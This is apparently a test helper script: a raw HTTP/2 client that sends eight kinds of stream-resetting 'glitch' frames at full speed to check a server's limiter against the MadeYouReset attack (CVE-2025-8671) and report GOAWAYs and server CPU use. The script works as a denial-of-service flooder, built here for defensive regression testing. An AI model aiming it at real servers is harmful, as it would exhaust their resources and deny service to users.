#!/usr/bin/env python3
"""A raw HTTP/2 client that sends one kind of "glitch" at full speed, for the glitch limiter.

A glitch is a frame that makes the server reset a stream, or that does nothing but cost it
work (nghttp2 1.67's glitch limiter, against MadeYouReset, CVE-2025-8671). For `--seconds S`
this client sends PATTERN as fast as the socket takes it, on one connection at a time: when
the server closes the connection it notes why (its GOAWAY) and connects again. It prints one
JSON line on stdout and judges nothing; the test that runs it does
(Tests/FleetSimulatorTests/Executable/GlitchLimiterTests.swift).

Usage (the venv's interpreter):

    .venv/bin/python Tests/Python/glitch_client.py PATTERN --target 127.0.0.1:PORT
        [--seconds 10] [--server-pid PID] [--nice N]

`--nice N` lowers the client's own priority: on a machine it shares with the server, the
attacker's CPU then does not count against the server's and the honest client's (an
attacker elsewhere would take none of it).

Patterns (each glitch on a new stream unless said otherwise; frames built by hand, headers
by `hpack`):
  zero-window-update  a request's HEADERS, then WINDOW_UPDATE with increment 0 on its stream
                      (the server resets it: PROTOCOL_ERROR)
  data-after-end      a request's HEADERS with END_STREAM, then DATA on the same stream
                      (STREAM_CLOSED)
  empty-data          a request's HEADERS, then 500 empty DATA frames without END_STREAM
  priority            PRIORITY frames on idle streams
  unknown-frame       frames of type 0x20 on stream 0
  malformed-headers   a request whose header block has an upper-case field name
                      (PROTOCOL_ERROR)
  bad-timeout         a request with `grpc-timeout: soon` (refused as malformed)
  refused-streams     never acknowledges the server's SETTINGS and opens streams without
                      end: past the server's limit each is refused (REFUSED_STREAM)

The report: pattern, seconds, connections (opened), goaways {error name: count},
goaway_debug {debug data: count}, closed_without_goaway, frames_sent, bytes_sent,
server_cpu_seconds and server_cpu_share (with --server-pid: the server's CPU time over the
attack from /proc, and that divided by the attack's length: 1.0 is one core), connect_errors.
Exit status 0 when the attack ran, 2 when the target could not be reached at all.
"""

from __future__ import annotations

import argparse
import json
import os
import socket
import struct
import sys
import time

import peer_common as pc

try:
    import hpack
except ImportError as error:  # pragma: no cover - environment problem
    print(f"glitch_client: missing package ({error}); use the venv", file=sys.stderr)
    sys.exit(2)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 2, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
PATH = "/grpc.testing.TestService/StreamingInputCall"
PATTERNS = ["zero-window-update", "data-after-end", "empty-data", "priority", "unknown-frame",
            "malformed-headers", "bad-timeout", "refused-streams"]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream & 0x7FFFFFFF) + payload


def read_cpu_seconds(pid: int) -> float | None:
    try:
        with open(f"/proc/{pid}/stat") as stat:
            fields = stat.read().rsplit(")", 1)[1].split()
        ticks = os.sysconf("SC_CLK_TCK")
        return (int(fields[11]) + int(fields[12])) / ticks
    except (OSError, ValueError, IndexError):
        return None


class Connection:
    """One connection: what we send, and a non-blocking look at what the server sent."""

    def __init__(self, host: str, port: int, ack_settings: bool):
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.settimeout(2)
        self.encoder = hpack.Encoder()
        self.next_stream = 1
        self.ack_settings = ack_settings
        self.inbound = bytearray()
        self.goaway: tuple[int, str] | None = None
        self.closed = False
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def stream(self) -> int:
        stream = self.next_stream
        self.next_stream += 2
        return stream

    def headers(self, stream: int, extra=(), end_stream=False, path=PATH) -> bytes:
        block = self.encoder.encode([
            (":method", "POST"), (":scheme", "http"), (":path", path),
            (":authority", "glitch.test"), ("content-type", "application/grpc"),
            ("te", "trailers")] + list(extra))
        return frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), stream, block)

    def send(self, data: bytes) -> bool:
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def poll(self) -> None:
        """Reads what is there without waiting; answers SETTINGS and PING; notes GOAWAY."""
        self.sock.setblocking(False)
        try:
            while True:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    self.closed = True
                    break
                self.inbound += chunk
        except BlockingIOError:
            pass
        except OSError:
            self.closed = True
        finally:
            self.sock.setblocking(True)
            self.sock.settimeout(2)
        replies = b""
        while len(self.inbound) >= 9:
            length = int.from_bytes(self.inbound[:3], "big")
            if len(self.inbound) < 9 + length:
                break
            kind, flags = self.inbound[3], self.inbound[4]
            payload = bytes(self.inbound[9:9 + length])
            del self.inbound[:9 + length]
            if kind == SETTINGS and not flags & ACK and self.ack_settings:
                replies += frame(SETTINGS, ACK, 0)
            elif kind == PING and not flags & ACK:
                replies += frame(PING, ACK, 0, payload)
            elif kind == GOAWAY and len(payload) >= 8:
                code = int.from_bytes(payload[4:8], "big")
                self.goaway = (code, payload[8:].decode("utf-8", "replace"))
        if replies and not self.closed:
            self.send(replies)

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


def batch(pattern: str, conn: Connection) -> tuple[bytes, int]:
    """About a hundred glitches of `pattern`: the bytes and their frame count."""
    out, frames = [], 0
    if pattern == "empty-data":
        stream = conn.stream()
        out.append(conn.headers(stream))
        out.append(frame(DATA, 0, stream) * 500)
        return b"".join(out), 501
    for _ in range(100):
        if pattern == "zero-window-update":
            stream = conn.stream()
            out += [conn.headers(stream), frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0")]
            frames += 2
        elif pattern == "data-after-end":
            stream = conn.stream()
            out += [conn.headers(stream, end_stream=True), frame(DATA, 0, stream, pc.grpc_frame(b""))]
            frames += 2
        elif pattern == "priority":
            out.append(frame(PRIORITY, 0, conn.stream(), b"\0\0\0\0\x0f"))
            frames += 1
        elif pattern == "unknown-frame":
            out.append(frame(0x20, 0, 0, b"\0" * 8))
            frames += 1
        elif pattern == "malformed-headers":
            out.append(conn.headers(conn.stream(), extra=[("Bad-Name", "x")], end_stream=True))
            frames += 1
        elif pattern == "bad-timeout":
            out.append(conn.headers(
                conn.stream(), extra=[("grpc-timeout", "soon")], end_stream=True,
                path="/grpc.testing.TestService/EmptyCall"))
            frames += 1
        elif pattern == "refused-streams":
            out.append(conn.headers(conn.stream()))
            frames += 1
    return b"".join(out), frames


def run(args) -> dict:
    host, _, port = args.target.rpartition(":")
    report = {"pattern": args.pattern, "connections": 0, "goaways": {}, "goaway_debug": {},
              "closed_without_goaway": 0, "frames_sent": 0, "bytes_sent": 0,
              "connect_errors": 0}
    cpu_before = read_cpu_seconds(args.server_pid) if args.server_pid else None
    started = time.monotonic()
    deadline = started + args.seconds
    while time.monotonic() < deadline:
        try:
            conn = Connection(host, int(port), ack_settings=args.pattern != "refused-streams")
        except OSError as error:
            report["connect_errors"] += 1
            if report["connections"] == 0 and report["connect_errors"] >= 20:
                report["error"] = str(error)
                return report
            time.sleep(0.05)
            continue
        report["connections"] += 1
        while time.monotonic() < deadline and not conn.closed:
            data, frames = batch(args.pattern, conn)
            if conn.send(data):
                report["frames_sent"] += frames
                report["bytes_sent"] += len(data)
            conn.poll()
        conn.poll()
        if conn.goaway is not None:
            name = pc.h2_error_name(conn.goaway[0])
            report["goaways"][name] = report["goaways"].get(name, 0) + 1
            debug = conn.goaway[1] or "-"
            report["goaway_debug"][debug] = report["goaway_debug"].get(debug, 0) + 1
        elif conn.closed:
            report["closed_without_goaway"] += 1
        conn.close()
    elapsed = time.monotonic() - started
    report["seconds"] = round(elapsed, 2)
    if cpu_before is not None:
        cpu_after = read_cpu_seconds(args.server_pid)
        if cpu_after is not None:
            report["server_cpu_seconds"] = round(cpu_after - cpu_before, 2)
            report["server_cpu_share"] = round((cpu_after - cpu_before) / elapsed, 3)
    return report


def main() -> int:
    pc.unblock_signals()
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("pattern", choices=PATTERNS)
    parser.add_argument("--target", required=True, help="HOST:PORT")
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--server-pid", type=int)
    parser.add_argument("--nice", type=int, default=0)
    args = parser.parse_args()
    if args.nice:
        os.nice(args.nice)
    report = run(args)
    print(json.dumps(report), flush=True)
    return 2 if report["connections"] == 0 else 0


if __name__ == "__main__":
    sys.exit(main())
